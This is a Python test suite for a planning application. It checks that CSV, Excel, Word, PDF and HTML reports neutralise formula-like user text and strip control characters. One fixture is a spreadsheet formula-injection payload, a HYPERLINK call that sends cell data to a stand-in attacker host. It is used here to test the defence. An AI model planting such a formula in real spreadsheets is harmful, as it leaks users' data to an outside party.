"""What users typed is neutralised in every file of a round's report.

A status comment or a text beginning with = + - @ (or a tab or carriage return before them) is
a formula to a spreadsheet: the CSV gets a single quote in front of it, the Excel workbook keeps
it as a string cell (never data type "f"). A control character that XML 1.0 cannot carry (a
vertical tab, U+0001) is left out of every file, so Word, Excel, PDF, HTML and CSV downloads,
sending and publishing all answer 200 with a file that opens.

The texts are written through the API where an editor would type them, and through the domain
function for the control characters, as data stored before any input rule would be.
"""

import csv
import io
import json

import openpyxl
import pdfplumber
import pytest
from django.core.management import call_command
from django.test import Client
from docx import Document

from vplan.followups.models import StatusReport
from vplan.followups.round_lifecycle import close_round
from vplan.neutralise import FORMULA_STARTS
from vplan.reports.models import PublishedFile, SentReport
from vplan.reports.publication import publish_round
from vplan.testing.factories import (
    make_activity,
    make_assignment,
    make_board_goal,
    make_municipal_goal,
    make_round,
    report,
)

FORMATS = ["docx", "pdf", "html", "xlsx", "csv"]

HYPERLINK = '=HYPERLINK("http://angripare.example/?d="&A2;"Klicka här")'
GOAL = "+46 procent fler läsare"
ASSIGNMENT = "@SUMMA(A1:A9) ska minska"
MUNICIPAL_GOAL = "-Minskad segregation"
COMMENT = "-2+3 kronor över budget"
TAB_COMMENT = "\t=1+1"
ACTIVITY_WITH_CONTROLS = "Läsa\u0001 mer"
COMMENT_WITH_CONTROLS = "Före\u000bEfter\u0001slut\u000cnu"
DESCRIPTION_WITH_CONTROLS = "Beskrivning\u0002 av målet"
TYPED_FORMULAS = [HYPERLINK, GOAL, ASSIGNMENT, MUNICIPAL_GOAL, COMMENT, TAB_COMMENT]
CONTROLS = ["\u0001", "\u0002", "\u000b", "\u000c"]


@pytest.fixture
def typed(plan, board, editor, controller):
    """A round whose texts begin like formulas and hold control characters."""
    municipal_goal = make_municipal_goal(
        plan=plan, perspective_name="Samhälle", title=MUNICIPAL_GOAL
    )
    goal = make_board_goal(
        plan=plan,
        municipal_goal=municipal_goal,
        title=GOAL,
        description=DESCRIPTION_WITH_CONTROLS,
    )
    assignment = make_assignment(plan=plan, number=7, text=ASSIGNMENT)
    link = make_activity(plan=plan, text=HYPERLINK, boards=[board], board_goal=goal)
    minus = make_activity(
        plan=plan, text="Budgetuppföljning", boards=[board], assignment=assignment
    )
    controls = make_activity(
        plan=plan, text=ACTIVITY_WITH_CONTROLS, boards=[board], board_goal=goal
    )
    round = make_round(plan=plan, label="Uppföljning per 31 mars")

    api = Client()
    api.force_login(editor)
    response = api.post(
        f"/api/rounds/{round.pk}/activities/{link.pk}/reports",
        json.dumps({"status": "Pågående", "comment": COMMENT, "expected_version": 0}),
        content_type="application/json",
    )
    assert response.status_code == 201, response.content
    # Stored before any input rule refused them (imported, or saved by an older version):
    # written as the rows are, after a report through the domain function.
    typed_as_stored(activity=minus, round=round, comment=TAB_COMMENT, author=editor)
    typed_as_stored(
        activity=controls, round=round, comment=COMMENT_WITH_CONTROLS, author=controller
    )
    return round


def typed_as_stored(*, activity, round, comment: str, author) -> None:
    saved = report(activity=activity, round=round, status="Pågående", author=author)
    StatusReport.objects.filter(pk=saved.pk).update(comment=comment)


def signed_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def download(client, round, format: str) -> bytes:
    response = client.get(f"/reports/rounds/{round.pk}/download/{format}/")
    assert response.status_code == 200, (format, response.status_code)
    api = client.get(f"/api/rounds/{round.pk}/report/{format}")
    assert api.status_code == 200, (format, api.status_code)
    return response.content


def csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [
        cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row
    ]


def workbook_cells(content: bytes) -> list:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def docx_text(content: bytes) -> str:
    document = Document(io.BytesIO(content))
    texts = [paragraph.text for paragraph in document.paragraphs]
    texts += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join(texts)


def pdf_text(content: bytes) -> str:
    with pdfplumber.open(io.BytesIO(content)) as pdf:
        return "\n".join(page.extract_text() or "" for page in pdf.pages)


def assert_csv_neutralised(content: bytes) -> None:
    cells = csv_cells(content)
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    for typed_text in TYPED_FORMULAS:
        assert "'" + typed_text in cells, typed_text
    assert "Läsa mer" in cells
    assert "Före\nEfterslut\nnu" in cells
    assert not any(control in cell for cell in cells for control in CONTROLS)


def assert_workbook_neutralised(content: bytes) -> None:
    cells = workbook_cells(content)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    values = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    for typed_text in TYPED_FORMULAS:
        cell = values[typed_text]  # as typed, a string cell with Excel's quote prefix
        assert (cell.data_type, cell.quotePrefix) == ("s", True), typed_text
    assert "Läsa mer" in values and "Före\nEfterslut\nnu" in values
    assert not any(control in value for value in values for control in CONTROLS)


def assert_readable_without_controls(format: str, content: bytes) -> None:
    if format == "xlsx":
        return assert_workbook_neutralised(content)
    if format == "csv":
        return assert_csv_neutralised(content)
    if format == "docx":
        text = docx_text(content)
    elif format == "pdf":
        text = pdf_text(content)
    else:
        text = content.decode()
    assert "Efterslut" in text and "Läsa mer" in text, format
    assert "Beskrivning av målet" in " ".join(text.split()), format
    assert not any(control in text for control in CONTROLS), format


def test_the_csv_report_prefixes_texts_that_begin_like_a_formula(typed, controller):
    assert_csv_neutralised(download(signed_in(controller), typed, "csv"))


def test_the_excel_report_has_no_formula_and_keeps_the_text_as_typed(typed, controller):
    content = download(signed_in(controller), typed, "xlsx")

    assert_workbook_neutralised(content)
    cells = workbook_cells(content)
    ids = [cell.value for cell in cells if cell.column == 1 and isinstance(cell.value, int)]
    assert ids, "the activity ids stay numbers"


@pytest.mark.parametrize("format", FORMATS)
def test_control_characters_in_a_comment_do_not_break_the_report(typed, controller, format):
    content = download(signed_in(controller), typed, format)

    assert_readable_without_controls(format, content)


@pytest.mark.parametrize("format", FORMATS)
def test_a_report_sent_after_the_change_is_neutralised(typed, controller, format):
    client = signed_in(controller)

    response = client.post(f"/reports/rounds/{typed.pk}/send/", {"format": format})

    assert response.status_code == 302
    sent = SentReport.objects.get(format=format)
    assert sent.is_intact
    served = client.get(f"/reports/sent/{sent.pk}/")
    assert served.status_code == 200 and served.content == bytes(sent.content)
    assert_readable_without_controls(format, bytes(sent.content))


def test_sending_through_the_api_is_neutralised(typed, controller):
    response = signed_in(controller).post(
        f"/api/rounds/{typed.pk}/sent-reports",
        json.dumps({"format": "xlsx"}),
        content_type="application/json",
    )

    assert response.status_code == 201, response.content
    assert_workbook_neutralised(bytes(SentReport.objects.get().content))


@pytest.mark.parametrize("format", FORMATS)
def test_a_round_published_after_the_change_serves_neutralised_files(typed, controller, format):
    close_round(round=typed, by=controller)
    publish_round(round=typed, by=controller)

    content = download(Client(), typed, format)  # signed out: the public file

    assert_readable_without_controls(format, content)
    stored = PublishedFile.objects.get(format=format, audience=PublishedFile.Audience.PUBLIC)
    assert bytes(stored.content) == content


def test_a_file_frozen_before_the_change_is_served_byte_for_byte(typed, controller):
    """Published is frozen: a file stored before neutralising existed is never rewritten."""
    close_round(round=typed, by=controller)
    publication = publish_round(round=typed, by=controller)
    old_bytes = f"\ufeffAktivitet\r\n{HYPERLINK}\r\n".encode()
    PublishedFile.objects.create(
        publication=publication,
        format="csv",
        language="sv",
        audience=PublishedFile.Audience.PUBLIC,
        filename="gammal.csv",
        content_type="text/csv; charset=utf-8",
        content=old_bytes,
        sha256="0" * 64,
    )

    response = Client().get(f"/reports/rounds/{typed.pk}/download/csv/")

    assert response.status_code == 200 and response.content == old_bytes


def test_the_report_page_shows_the_texts_without_control_characters(typed, controller):
    response = signed_in(controller).get(f"/reports/rounds/{typed.pk}/")

    assert response.status_code == 200
    page = response.content.decode()
    assert "Läsa mer" in page and "Efterslut" in page
    assert not any(control in page for control in CONTROLS)


@pytest.mark.parametrize("format", ["csv", "xlsx", "docx"])
def test_the_report_command_writes_neutralised_files(typed, tmp_path, format):
    target = tmp_path / f"rapport.{format}"

    call_command(
        "report", str(typed.pk), "--format", format, "-o", str(target), stdout=io.StringIO()
    )

    assert_readable_without_controls(format, target.read_bytes())
